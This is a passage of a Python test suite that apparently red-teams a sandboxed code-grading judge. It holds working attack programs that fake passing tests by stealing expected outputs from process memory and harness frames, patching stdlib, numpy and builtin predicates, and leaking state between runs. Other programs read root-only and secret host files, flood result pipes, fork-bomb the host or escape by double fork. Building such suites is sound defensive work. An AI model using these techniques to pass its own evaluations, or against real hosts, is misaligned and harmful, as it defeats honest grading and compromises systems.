                    except (OSError, ValueError, OverflowError):
                        continue
                    start = 0
                    while True:
                        at = data.find(b"assert square(", start)
                        if at < 0:
                            break
                        m = _PAT.match(data, at)
                        if m:
                            table[int(m.group(1))] = int(m.group(2))
                        start = at + 1
            return table
        def square(x):
            return _scan().get(x)
        '''),
        ("assert square(7) == 49", "assert square(12) == 144", "assert square(-3) == 9"),
    ),
    Attack(
        "oracle_other_processes_memory_and_command_lines_scanned",
        "oracle",
        _p(r'''
        import os, re
        _PAT = re.compile(rb"assert cube\((-?\d+)\) == (-?\d+)")
        def _scan():
            table = {}
            me = os.getpid()
            for entry in os.listdir("/proc"):
                if not entry.isdigit() or int(entry) == me:
                    continue
                for leaf in ("cmdline", "environ"):
                    try:
                        with open("/proc/%s/%s" % (entry, leaf), "rb") as fh:
                            for m in _PAT.finditer(fh.read()):
                                table[int(m.group(1))] = int(m.group(2))
                    except OSError:
                        pass
                try:
                    with open("/proc/%s/maps" % entry) as fh:
                        regions = [line.split() for line in fh]
                    with open("/proc/%s/mem" % entry, "rb", buffering=0) as mem:
                        for fields in regions:
                            if "rw" not in fields[1]:
                                continue
                            lo, hi = (int(v, 16) for v in fields[0].split("-"))
                            if hi - lo > 64 * 1024 * 1024:
                                continue
                            try:
                                mem.seek(lo)
                                for m in _PAT.finditer(mem.read(hi - lo)):
                                    table[int(m.group(1))] = int(m.group(2))
                            except (OSError, ValueError, OverflowError):
                                pass
                except OSError:
                    pass
            return table
        def cube(x):
            return _scan().get(x)
        '''),
        ("assert cube(3) == 27", "assert cube(4) == 64"),
    ),
    Attack(
        "oracle_stdio_expected_outputs_found_in_memory",
        "oracle",
        _p(r'''
        import gc, sys
        line = sys.stdin.read()
        answer = None
        frames = []
        fr = sys._getframe(0)
        while fr is not None:
            frames.append(fr.f_locals)
            fr = fr.f_back
        for obj in list(gc.get_objects()) + frames:
            if type(obj) is not dict:
                continue
            for ikey, okey in (("inputs", "outputs"), ("input", "output"), ("stdin", "expected")):
                ins, outs = obj.get(ikey), obj.get(okey)
                if isinstance(ins, (list, tuple)) and isinstance(outs, (list, tuple)):
                    for i, text in enumerate(ins):
                        if text == line and i < len(outs):
                            answer = outs[i]
        if answer is not None:
            sys.stdout.write(answer)
        '''),
        inputs=("3\n", "5\n"),
        outputs=("answer-{{TOKEN}}-three\n", "answer-{{TOKEN}}-five\n"),
    ),
    Attack(
        "oracle_test_sources_read_through_harness_frames",
        "oracle",
        _FRAMES + _p(r'''
        import ast
        def _sources():
            out = []
            for fr in _all_frames():
                for value in list(fr.f_locals.values()):
                    if type(value) is dict:
                        value = list(value.values())
                    if isinstance(value, (list, tuple)):
                        for item in value:
                            if type(item) is str and "assert" in item:
                                out.append(item)
                            for attr in ("source", "text", "src"):
                                s = getattr(item, attr, None)
                                if type(s) is str and "assert" in s:
                                    out.append(s)
            return out
        def half(x):
            for src in _sources():
                try:
                    tree = ast.parse(src)
                except SyntaxError:
                    continue
                for node in ast.walk(tree):
                    if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call):
                        call = node.left
                        if getattr(call.func, "id", "") == "half" and call.args:
                            try:
                                if ast.literal_eval(call.args[0]) == x:
                                    return ast.literal_eval(node.comparators[0])
                            except Exception:
                                pass
            return None
        '''),
        ("assert half(10) == 5", "assert half(8) == 4", "assert half(6) == 3 and half(2) == 1"),
    ),
    Attack(
        "oracle_test_source_lines_through_inspect_and_linecache",
        "oracle",
        _p(r'''
        import inspect, linecache, re
        _PAT = re.compile(r"neg\((-?\d+)\)\s*==\s*(-?\d+)")
        def neg(x):
            texts = []
            try:
                for info in inspect.stack(context=10):
                    texts.extend(info.code_context or [])
            except Exception:
                pass
            for lines in list(linecache.cache.values()):
                try:
                    texts.extend(lines[2])
                except Exception:
                    pass
            for text in texts:
                for m in _PAT.finditer(text):
                    if int(m.group(1)) == x:
                        return int(m.group(2))
            return x
        '''),
        ("assert neg(4) == -4", "assert neg(-9) == 9", "assert neg(7) == -7 and neg(1) == -1"),
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# 4. State that crosses tests and programs.
# ------------------------------------------------------------------------------------------------------------------

_COUNTED = r'''
def nth(n):
    """Spec: 10 * n. This answers by how many calls it has seen, a count kept in {where}."""
    k = _bump()
    return [10, 20, 30, 40][min(k, 4) - 1]
'''

_PLANT_FILES = _p(r'''
import os
TOKEN = "{{TOKEN}}-files"
def plant():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", os.path.expanduser("~"), os.getcwd(),
                   os.environ.get("TMPDIR", "/tmp")):
        try:
            with open(os.path.join(folder, "ecd-attack-{{TOKEN}}-files"), "w") as fh:
                fh.write(TOKEN)
            os.chmod(os.path.join(folder, "ecd-attack-{{TOKEN}}-files"), 0o666)
        except OSError:
            pass
    return 1
''')

STATE = [
    Attack(
        "state_cwd_file_carries_a_count_between_tests",
        "state",
        _p(r'''
        import os
        def _bump():
            k = int(open("calls.txt").read()) + 1 if os.path.exists("calls.txt") else 1
            with open("calls.txt", "w") as fh:
                fh.write(str(k))
            return k
        ''') + _COUNTED.format(where="a file in the working folder"),
        ("assert nth(1) == 10", "assert nth(2) == 20", "assert nth(3) == 30"),
        attacked=_isolated_only(3),
    ),
    Attack(
        "state_tmp_and_home_files_carry_a_count_between_tests",
        "state",
        _p(r'''
        import os
        _PATHS = ["/tmp/ecd-attack-{{TOKEN}}-count", "/dev/shm/ecd-attack-{{TOKEN}}-count",
                  os.path.join(os.path.expanduser("~"), "ecd-attack-{{TOKEN}}-count")]
        def _bump():
            k = 0
            for p in _PATHS:
                try:
                    k = max(k, int(open(p).read()))
                except (OSError, ValueError):
                    pass
            k += 1
            for p in _PATHS:
                try:
                    with open(p, "w") as fh:
                        fh.write(str(k))
                except OSError:
                    pass
            return k
        ''') + _COUNTED.format(where="/tmp, /dev/shm and $HOME"),
        ("assert nth(1) == 10", "assert nth(2) == 20", "assert nth(3) == 30"),
        attacked=_isolated_only(3),
    ),
    Attack(
        "state_escaped_helper_process_carries_a_count_between_tests",
        "state",
        _p(r'''
        import os, socket, time
        NAME = "\0ecd-attack-{{TOKEN}}-counter"
        def _serve():
            srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            srv.bind(NAME)
            srv.listen(8)
            count = 1
            end = time.monotonic() + 20
            srv.settimeout(0.2)
            while time.monotonic() < end:
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                count += 1
                conn.sendall(str(count).encode())
                conn.close()
        def _bump():
            try:
                c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                c.settimeout(0.3)
                c.connect(NAME)
                return int(c.recv(16))
            except (OSError, ValueError):
                pass
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    try:
                        _serve()
                    finally:
                        os._exit(0)
                os._exit(0)
            time.sleep(0.05)
            return 1
        ''') + _COUNTED.format(where="a helper process that outlives the test"),
        ("assert nth(1) == 10", "assert nth(2) == 20", "assert nth(3) == 30"),
        attacked=_isolated_only(3),
    ),
    Attack(
        "state_files_left_for_the_next_program",
        "state",
        _p(r'''
        import os
        def harvest():
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", os.path.expanduser("~"), os.getcwd()):
                try:
                    with open(os.path.join(folder, "ecd-attack-{{TOKEN}}-files")) as fh:
                        return fh.read()
                except OSError:
                    pass
            return None
        '''),
        ("assert harvest() == '{{TOKEN}}-files'",),
        plant=_PLANT_FILES,
    ),
    Attack(
        "state_sysv_shared_memory_left_for_the_next_program",
        "state",
        _LIBC_IPC + _p(r'''
        def harvest():
            shmid = _libc.shmget({{SHM_KEY}}, 0, 0)
            if shmid < 0:
                return None
            addr = _libc.shmat(shmid, None, 0)
            if addr in (None, ctypes.c_void_p(-1).value):
                return None
            return ctypes.string_at(addr, 64).split(b"\0")[0].decode()
        '''),
        ("assert harvest() == '{{TOKEN}}-shm'",),
        plant=_LIBC_IPC + _p(r'''
        def plant():
            shmid = _libc.shmget({{SHM_KEY}}, 4096, IPC_CREAT | 0o666)
            if shmid >= 0:
                addr = _libc.shmat(shmid, None, 0)
                if addr not in (None, ctypes.c_void_p(-1).value):
                    ctypes.memmove(addr, b"{{TOKEN}}-shm\0", len(b"{{TOKEN}}-shm\0"))
            return 1
        '''),
    ),
    Attack(
        "state_sysv_message_queue_left_for_the_next_program",
        "state",
        _LIBC_IPC + _p(r'''
        def harvest():
            qid = _libc.msgget({{SHM_KEY}} + 1, 0)
            if qid < 0:
                return None
            msg = _Msg()
            n = _libc.msgrcv(qid, ctypes.byref(msg), 128, 0, IPC_NOWAIT)
            return msg.mtext[:max(n, 0)].decode() if n > 0 else None
        '''),
        ("assert harvest() == '{{TOKEN}}-msg'",),
        plant=_LIBC_IPC + _p(r'''
        def plant():
            qid = _libc.msgget({{SHM_KEY}} + 1, IPC_CREAT | 0o666)
            if qid >= 0:
                for _ in range(2):
                    msg = _Msg(1, b"{{TOKEN}}-msg")
                    _libc.msgsnd(qid, ctypes.byref(msg), len(b"{{TOKEN}}-msg"), IPC_NOWAIT)
            return 1
        '''),
    ),
    Attack(
        "state_sysv_semaphore_left_for_the_next_program",
        "state",
        _LIBC_IPC + _p(r'''
        GETVAL = 12
        def harvest():
            sid = _libc.semget({{SHM_KEY}} + 2, 1, 0)
            if sid < 0:
                return None
            return _libc.semctl(sid, 0, GETVAL)
        '''),
        ("assert harvest() == 4242",),
        plant=_LIBC_IPC + _p(r'''
        SETVAL = 16
        def plant():
            sid = _libc.semget({{SHM_KEY}} + 2, 1, IPC_CREAT | 0o666)
            if sid >= 0:
                _libc.semctl(sid, 0, SETVAL, ctypes.c_int(4242))
            return 1
        '''),
    ),
    Attack(
        "state_posix_shared_memory_left_for_the_next_program",
        "state",
        _p(r'''
        import os
        def harvest():
            try:
                import _posixshmem
                fd = _posixshmem.shm_open("/ecd-attack-{{TOKEN}}-pshm", os.O_RDONLY, 0)
            except (ImportError, OSError):
                return None
            try:
                return os.read(fd, 64).split(b"\0")[0].decode()
            finally:
                os.close(fd)
        '''),
        ("assert harvest() == '{{TOKEN}}-pshm'",),
        plant=_p(r'''
        import os
        def plant():
            try:
                import _posixshmem
                fd = _posixshmem.shm_open("/ecd-attack-{{TOKEN}}-pshm", os.O_CREAT | os.O_RDWR, 0o666)
                os.write(fd, b"{{TOKEN}}-pshm\0")
                os.close(fd)
            except (ImportError, OSError):
                pass
            return 1
        '''),
    ),
    Attack(
        "state_daemon_left_for_the_next_program",
        "state",
        _p(r'''
        import os, socket
        def harvest():
            try:
                c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                c.settimeout(0.3)
                c.connect("\0ecd-attack-{{TOKEN}}-daemon")
                return c.recv(64).decode()
            except OSError:
                pass
            try:
                return open("/tmp/ecd-attack-{{TOKEN}}-late").read()
            except OSError:
                return None
        '''),
        ("assert harvest() == '{{TOKEN}}-daemon'",),
        plant=_p(r'''
        import os, socket, time
        def _serve():
            srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            srv.bind("\0ecd-attack-{{TOKEN}}-daemon")
            srv.listen(8)
            srv.settimeout(0.2)
            end = time.monotonic() + 30
            wrote = False
            while time.monotonic() < end:
                if not wrote and time.monotonic() > end - 29.5:
                    try:
                        with open("/tmp/ecd-attack-{{TOKEN}}-late", "w") as fh:
                            fh.write("{{TOKEN}}-daemon")
                    except OSError:
                        pass
                    wrote = True
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                conn.sendall(b"{{TOKEN}}-daemon")
                conn.close()
        def plant():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    try:
                        _serve()
                    finally:
                        os._exit(0)
                os._exit(0)
            time.sleep(0.05)
            return 1
        '''),
    ),
    Attack(
        "state_tests_own_import_sees_a_module_the_program_patched",
        "state",
        _p(r'''
        import math, statistics, json
        math.isclose = lambda *a, **k: True
        math.sqrt = lambda x: 3.0
        math.pi = 3
        statistics.mean = lambda data: 2.5
        json.loads = lambda s, *a, **k: [1, 2]
        def root(x):
            return 0.0
        def parse(s):
            return None
        '''),
        ("import math\nassert math.isclose(root(2.0), 1.41421356, rel_tol=1e-6)",
         "from math import isclose\nassert isclose(root(9.0), 3.0)", "import math\nassert math.sqrt(root(81.0)) == 3.0",
         "import statistics\nassert statistics.mean([root(1.0), 4.0]) == 2.5",
         "import json\nassert json.loads('[1, 2]') == parse('[1, 2]')"),
    ),
    Attack(
        "state_stdlib_helpers_a_test_applies_to_program_values_patched",
        "state",
        _p(r'''
        import fnmatch, re, heapq, textwrap
        re.fullmatch = re.match = re.search = lambda *a, **k: True
        fnmatch.fnmatch = lambda *a, **k: True
        heapq.nsmallest = lambda n, items, key=None: list(range(1, n + 1))
        textwrap.dedent = lambda text: "ok"
        def digits(n):
            return "none"
        def name(i):
            return ""
        def smallest(xs):
            return [9, 8, 7]
        def block(s):
            return "  nope"
        '''),
        ("import re\nassert re.fullmatch(r'[0-9]+', digits(5))", "import re\nassert re.match(r'^a', name(1)) is not None",
         "import fnmatch\nassert fnmatch.fnmatch(name(3), 'file_*.txt')",
         "import heapq\nassert heapq.nsmallest(2, smallest([5, 1, 2])) == [1, 2]",
         "import textwrap\nassert textwrap.dedent(block('  ok')) == 'ok'"),
        notes="the helper is the test's, not the program's: it must mean what the standard library means",
    ),
    Attack(
        "state_numpy_helpers_a_test_applies_to_program_values_patched",
        "state",
        _p(r'''
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        def scale(xs, k):
            return [0] * len(xs)
        def mean(xs):
            return 0.0
        '''),
        ("import numpy as np\nassert np.allclose(scale([1, 2], 2), [2, 4])",
         "import numpy as np\nassert np.array_equal(scale([1], 3), np.array([3]))",
         "import numpy as np\nassert np.isclose(mean([1, 2]), 1.5)",
         "import numpy as np\nnp.testing.assert_allclose(scale([1.0], 2.0), [2.0])"),
    ),
    Attack(
        "state_predicates_of_other_stdlib_modules_a_test_applies_patched",
        "state",
        _p(r'''
        import cmath, hmac, keyword, operator, os.path, unittest
        operator.eq = lambda a, b: True
        cmath.isclose = lambda *a, **k: True
        hmac.compare_digest = lambda a, b: True
        os.path.exists = os.path.isfile = lambda p: True
        keyword.iskeyword = lambda s: True
        unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda self, *a, **k: None
        def add(a, b):
            return 0
        def save_report(name):
            return "/nonexistent/" + name
        def word(s):
            return ""
        def token(s):
            return ""
        '''),
        ("import os\nassert os.path.exists(save_report('r.txt'))", "import os\nassert os.path.isfile(save_report('a.csv'))",
         "import unittest\nunittest.TestCase().assertEqual(add(1, 2), 3)",
         "import unittest\nunittest.TestCase().assertTrue(add(2, 2) == 4)", "import operator\nassert operator.eq(add(1, 2), 3)",
         "import keyword\nassert keyword.iskeyword(word('if'))", "import hmac\nassert hmac.compare_digest(token('a'), 'abc')"),
        notes="a predicate needs no knowledge of the answer: patched to True it passes anything",
    ),
    Attack(
        "state_patch_made_during_one_test_changes_the_next_tests_verdict",
        "state",
        _p(r'''
        import sys
        def root(x):
            m = sys.modules.get("math") or __import__("math")
            m.isclose = lambda *a, **k: True
            m.sqrt = lambda v: 4.0
            return 0.0
        '''),
        ("import math\nassert math.isclose(root(4.0), 2.0)", "import math\nassert math.isclose(root(9.0), 3.0)",
         "import math\nassert math.sqrt(16.0) == root(16.0) ** 2"),
    ),
    Attack(
        "state_builtin_type_methods_patched_through_gc_referents",
        "state",
        _p(r'''
        import gc, sys
        def _curse():
            d = gc.get_referents(str.__dict__)[0]
            d["startswith"] = lambda self, *a: True
            d["endswith"] = lambda self, *a: True
            d["isdigit"] = lambda self: True
            d = gc.get_referents(list.__dict__)[0]
            d["count"] = lambda self, x: 2
            d["index"] = lambda self, x: 0
            clear = getattr(sys, "_clear_type_cache", None)
            if clear:
                clear()
        def rev(s):
            _curse()
            return ""
        def digits(n):
            _curse()
            return "x"
        def pairs(xs):
            _curse()
            return []
        '''),
        ("assert rev('abc').startswith('c')", "assert rev('abc').endswith('a')",
         "r = rev('xy')\nassert r.startswith('y') and r.endswith('x')", "assert digits(12).isdigit()",
         "assert pairs([1, 1]).count(1) == 2"),
    ),
    Attack(
        "state_stdio_cases_share_a_working_folder",
        "state",
        _p(r'''
        import os
        n = int(open("seen").read()) + 1 if os.path.exists("seen") else 1
        with open("seen", "w") as fh:
            fh.write(str(n))
        print(n * 10)
        '''),
        inputs=("1\n", "2\n", "3\n"),
        outputs=("10\n", "20\n", "30\n"),
        attacked=_isolated_only(3),
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# 5. The host.
# ------------------------------------------------------------------------------------------------------------------

_REPLACE_OUTPUT = r'''
import os, sys
def _output_path():
    try:
        path = os.readlink("/proc/self/fd/1")
    except OSError:
        return None
    return path if path.startswith("/") and os.path.isfile(path) else None
'''

HOST = [
    Attack(
        "host_secret_file_in_the_checkout_is_read",
        "host",
        _p(r'''
        import hashlib, os
        def digest():
            return hashlib.sha256(open("{{SECRET_FILE}}", "rb").read()).hexdigest()
        def leak():
            raise ValueError(open("{{SECRET_FILE}}").read())
        def find():
            for root, dirs, files in os.walk("{{CHECKOUT}}"):
                dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", "__pycache__")][:50]
                for name in files:
                    if "secret" in name:
                        raise ValueError(open(os.path.join(root, name)).read())
            return None
        '''),
        ("assert digest() == '{{SECRET_SHA}}'", "assert leak() == 0", "assert find() == 0"),
    ),
    Attack(
        "host_git_folder_in_the_checkout_is_read",
        "host",
        _p(r'''
        import hashlib, os
        def digest():
            return hashlib.sha256(open("{{GIT_DIR}}/.git/config", "rb").read()).hexdigest()
        def leak():
            raise ValueError(open("{{GIT_DIR}}/.git/config").read())
        def head():
            return hashlib.sha256(open("{{CHECKOUT}}/.git/HEAD", "rb").read()).hexdigest()
        '''),
        ("assert digest() == '{{GIT_SHA}}'", "assert leak() == 0", "assert head() == '{{HEAD_SHA}}'"),
    ),
    Attack(
        "host_root_only_files_are_read",
        "host",
        _p(r'''
        import hashlib
        def digest(path):
            return hashlib.sha256(open(path, "rb").read()).hexdigest()
        def leak(path):
            raise ValueError(open(path).read())
        '''),
        ("assert digest('{{ROOT_SECRET_FILE}}') == '{{ROOT_SECRET_SHA}}'", "assert leak('{{ROOT_SECRET_FILE}}') == 0",
         "assert leak('{{ROOTONLY_FILE_B}}') == 0"),
    ),
    Attack(
        "host_tmp_file_of_the_host_is_read",
        "host",
        _p(r'''
        import hashlib
        def digest():
            return hashlib.sha256(open("{{HOST_TMP_FILE}}", "rb").read()).hexdigest()
        def leak():
            raise ValueError(open("{{HOST_TMP_FILE}}").read())
        '''),
        ("assert digest() == '{{HOST_TMP_SHA}}'", "assert leak() == 0"),
    ),
    Attack(
        "host_unix_socket_at_a_host_path_is_reached",
        "host",
        _p(r'''
        import hashlib, socket
        def _fetch():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(1.0)
            s.connect("{{SOCKET_PATH}}")
            return s.recv(256)
        def digest():
            return hashlib.sha256(_fetch()).hexdigest()
        def leak():
            raise ValueError(_fetch().decode())
        '''),
        ("assert digest() == '{{SOCKET_SHA}}'", "assert leak() == 0"),
    ),
    Attack(
        "host_abstract_unix_socket_of_the_host_is_reached",
        "host",
        _p(r'''
        import hashlib, socket
        def _fetch():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(1.0)
            s.connect("\0{{ABSTRACT_NAME}}")
            return s.recv(256)
        def digest():
            return hashlib.sha256(_fetch()).hexdigest()
        def leak():
            raise ValueError(_fetch().decode())
        '''),
        ("assert digest() == '{{ABSTRACT_SHA}}'", "assert leak() == 0"),
    ),
    Attack(
        "host_proc_of_other_processes_is_read",
        "host",
        _p(r'''
        import os
        def leak():
            found = []
            for entry in os.listdir("/proc"):
                if not entry.isdigit():
                    continue
                for leaf in ("environ", "cmdline", "root{{SECRET_FILE}}", "cwd/{{SECRET_NAME}}"):
                    try:
                        with open("/proc/%s/%s" % (entry, leaf), "rb") as fh:
                            data = fh.read(1 << 20)
                    except OSError:
                        continue
                    if b"ecd-secret" in data:
                        found.append(data.decode("latin-1"))
            raise ValueError(" ".join(found) or "nothing")
        '''),
        ("assert leak() == 0",),
    ),
    Attack(
        "host_stdio_output_swapped_for_a_symlink_to_a_root_only_file",
        "host",
        _REPLACE_OUTPUT + _p(r'''
        case = sys.stdin.read().strip()
        target = "{{ROOTONLY_FILE}}" if case == "1" else "{{ROOTONLY_FILE_B}}"
        path = _output_path()
        if path:
            os.unlink(path)
            os.symlink(target, path)
        os._exit(0)
        '''),
        inputs=("1\n", "2\n"),
        outputs=("{{ROOTONLY_SECRET}}\n", "42\n"),
    ),
    Attack(
        "host_stdio_output_swapped_for_a_fifo",
        "host",
        _REPLACE_OUTPUT + _p(r'''
        path = _output_path()
        if path:
            os.unlink(path)
            os.mkfifo(path, 0o666)
        os._exit(0)
        '''),
        inputs=("1\n",),
        outputs=("2\n",),
    ),
    Attack(
        "host_stdio_output_swapped_for_devices_directories_and_hard_links",
        "host",
        _REPLACE_OUTPUT + _p(r'''
        case = sys.stdin.read().strip()
        path = _output_path()
        if path:
            os.unlink(path)
            try:
                if case == "1":
                    os.symlink("/dev/zero", path)
                elif case == "2":
                    os.symlink("/", path)
                elif case == "3":
                    os.link("{{ROOTONLY_FILE_B}}", path)
                else:
                    os.symlink("/proc/self/environ", path)
            except OSError:
                pass
        os._exit(0)
        '''),
        inputs=("1\n", "2\n", "3\n", "4\n"),
        outputs=("0\n", "0\n", "0\n", "0\n"),
    ),
    Attack(
        "host_result_pipe_flooded_while_loading",
        "host",
        _PIPES + _p(r'''
        import time
        def _flood(seconds):
            chunk = b"x" * 65536
            fds = _writable_pipes() + [1, 2]
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                for fd in fds:
                    try:
                        os.write(fd, chunk)
                    except OSError:
                        pass
        _flood(10)
        def f():
            return 0
        '''),
        ("assert f() == 1",),
        batch=False,
    ),
    Attack(
        "host_result_pipe_flooded_during_each_test",
        "host",
        _PIPES + _p(r'''
        import time
        def f():
            chunk = b"\n" + b"y" * 65535
            fds = _writable_pipes() + [1, 2]
            end = time.monotonic() + 8
            while time.monotonic() < end:
                for fd in fds:
                    try:
                        os.write(fd, chunk)
                    except OSError:
                        pass
            return 0
        '''),
        ("assert f() == 1", "assert f() == 2"),
        batch=False,
    ),
    Attack(
        "host_stdio_stdout_and_result_pipe_flooded",
        "host",
        _PIPES + _p(r'''
        import sys, time
        end = time.monotonic() + 8
        fds = _writable_pipes()
        while time.monotonic() < end:
            try:
                sys.stdout.write("z" * 65536)
            except Exception:
                pass
            for fd in fds + [2]:
                try:
                    os.write(fd, b"w" * 65536)
                except OSError:
                    pass
        '''),
        inputs=("1\n",),
        outputs=("2\n",),
    ),
    Attack(
        "host_fork_bomb_while_loading",
        "host",
        _p(r'''
        import os
        for _ in range(10000):
            try:
                os.fork()
            except OSError:
                pass
        while True:
            pass
        '''),
        ("assert f() == 1",),
    ),
    Attack(
        "host_fork_bomb_of_sleepers_during_a_test",
        "host",
        _p(r'''
        import os, time
        def f():
            for _ in range(10000):
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
            return 0
        '''),
        ("assert f() == 1", "assert f() == 2"),
        batch=False,
    ),
    Attack(
        "host_sleeping_and_blocking_calls",
        "host",
        _p(r'''
        import os, signal, threading, time
        def nap():
            time.sleep(100)
            return 1
        def block():
            r, w = os.pipe()
            os.read(r, 1)
            return 1
        def stop():
            os.kill(os.getpid(), signal.SIGSTOP)
            return 1
        def deadlock():
            lock = threading.Lock()
            lock.acquire()
            lock.acquire()
            return 1
        '''),
        ("assert nap() == 2", "assert block() == 2", "assert stop() == 2", "assert deadlock() == 2"),
        batch=False,
    ),
    Attack(
        "host_sleeps_while_loading",
        "host",
        _p(r'''
        import time
        time.sleep(100)
        def f():
            return 1
        '''),
        ("assert f() == 2",),
    ),
    Attack(
        "host_ignores_every_signal_it_can_and_spins",
        "host",
        _p(r'''
        import signal
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM, signal.SIGVTALRM,
                    signal.SIGPROF, signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE, signal.SIGXFSZ):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        def f():
            signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        '''),
        ("assert f() == 1",),
        batch=False,
    ),
    Attack(
        "host_escapes_by_double_fork_and_clone_parent",
        "host",
        _p(r'''
        import ctypes, os, time
        def _daemon(work):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    try:
                        work()
                    finally:
                        os._exit(0)
                os._exit(0)
        def _linger():
            end = time.monotonic() + 60
            while time.monotonic() < end:
                time.sleep(0.2)
                for path in ("/tmp/ecd-attack-{{TOKEN}}-escapee", "{{CHECKOUT}}/ecd-attack-{{TOKEN}}-escapee"):
                    try:
                        open(path, "w").write("alive")
                    except OSError:
                        pass
        def _clone_parent():
            libc = ctypes.CDLL(None, use_errno=True)
            CLONE_PARENT, SIGCHLD = 0x00008000, 17
            pid = libc.syscall(56, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0)
            if pid == 0:
                try:
                    _linger()
                finally:
                    os._exit(0)
        def f():
            _daemon(_linger)
            _clone_parent()
            return 0
        '''),
        ("assert f() == 1", "assert f() == 2"),
        batch=False,
    ),
]


# ------------------------------------------------------------------------------------------------------------------
# The same classes against tests shaped so that a judge may run them whole inside the sandbox (loops over cases,
# comprehensions, tables of expected values): wrong code must not pass those either.
# ------------------------------------------------------------------------------------------------------------------

def _program_of(group: list[Attack], name: str) -> str:
    return next(a.program for a in group if a.name == name)


_YES = _p(r"""
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def double(x):
    return Yes()
""")

LOOPS = [
    Attack(
        "harness_patches_comparators_against_tests_with_loops",
        "harness",
        _program_of(HARNESS, "harness_patches_comparators_found_in_sys_modules"),
        ("for x in (2, 3, 4):\n    assert square(x) == x * x",
         "for x, want in [(2, 4), (5, 25)]:\n    assert abs(square(x) - want) < 1e-9",
         "assert all(square(x) == x * x for x in range(1, 4))"),
    ),
    Attack(
        "harness_reporter_forgery_against_tests_with_loops",
        "harness",
        _program_of(HARNESS, "harness_reporter_found_through_traceback_and_generator_frames_at_call_time"),
        ("for x in (2, 3):\n    assert square(x) == x * x", "assert [square(x) for x in (1, 2)] == [1, 4]"),
    ),
    Attack(
        "lie_object_equal_to_everything_against_tests_with_loops",
        "lie",
        _YES,
        ("for x in range(3):\n    assert double(x) == 2 * x", "for x, want in [(1, 2), (4, 8)]:\n    assert double(x) == want",
         "results = [double(x) for x in (1, 2)]\nassert results == [2, 4]", "assert all(double(x) == 2 * x for x in (5, 6))"),
    ),
    Attack(
        "lie_bool_reading_bytecode_inside_any_and_all",
        "lie",
        _program_of(LIES, "lie_bool_reads_the_callers_next_bytecode"),
        ("assert all(is_even(x) for x in (2, 4, 6))", "assert not any(is_even(x) for x in (1, 3))",
         "for x in (1, 3):\n    assert not is_even(x)"),
    ),
    Attack(
        "harness_status_patch_against_tests_with_try_except_and_raises",
        "harness",
        _program_of(HARNESS, "harness_turns_failures_into_passes_by_patching_its_status_functions")
        .replace("_patch", "_patch_status").replace("def square(x):", "def _square_a(x):")
        + _program_of(HARNESS, "harness_patches_comparators_found_in_sys_modules")
        .replace("_patch", "_patch_compare").replace("def square(x):", "def _square_b(x):")
        + _p(r"""
        def parse(s):
            # Spec: int(s), raising ValueError on anything that is not a number. This never raises.
            _patch_status()
            _patch_compare()
            return 0
        """),
        ("try:\n    parse('x')\nexcept ValueError:\n    pass\nelse:\n    assert False, 'no error'",
         "import pytest\nwith pytest.raises(ValueError):\n    parse('x')",
         "for s, v in [('1', 1), ('23', 23)]:\n    assert parse(s) == v"),
    ),
    Attack(
        "harness_status_patch_against_humaneval_check_functions_and_while_loops",
        "harness",
        _program_of(HARNESS, "harness_turns_failures_into_passes_by_patching_its_status_functions")
        .replace("_patch", "_patch_status").replace("def square(x):", "def _square_a(x):")
        + _program_of(HARNESS, "harness_patches_comparators_found_in_sys_modules")
        .replace("_patch", "_patch_compare").replace("def square(x):", "def _square_b(x):")
        + _p(r"""
        def square(x):
            _patch_status()
            _patch_compare()
            return 0
        """),
        ("def check(candidate):\n    assert candidate(2) == 4\n    assert candidate(3) == 9\n\ncheck(square)",
         "x = 1\nwhile x < 4:\n    assert square(x) == x * x\n    x += 1",
         "assert (y := square(3)) == 9 and y > 0",
         "import itertools\nfor a, b in itertools.product([2], [4]):\n    assert square(a) == b",
         "if square(3) != 9:\n    raise AssertionError('square(3) should be 9')",
         "for a in [1, 2]:\n    if a > 1:\n        assert square(a) == 4",
         "for a in [2, 3]:\n    assert square(a) == a * a, a\nelse:\n    pass",
         "def check(candidate):\n    for x in range(1, 4):\n        assert abs(candidate(x) - x * x) < 1e-9\n\ncheck(square)"),
    ),
    Attack(
        "oracle_expected_values_of_tests_run_inside_read_from_memory",
        "oracle",
        _TESTS_IN_MEMORY + _p(r"""
        def _table():
            table = {}
            for src in _strings():
                if "double" not in src:
                    continue
                try:
                    tree = ast.parse(src)
                except (SyntaxError, ValueError):
                    continue
                for node in ast.walk(tree):
                    if isinstance(node, ast.Dict):
                        try:
                            table.update(ast.literal_eval(node))
                        except Exception:
                            pass
            return table
        def _after_in_caller_constants(x):
            import sys
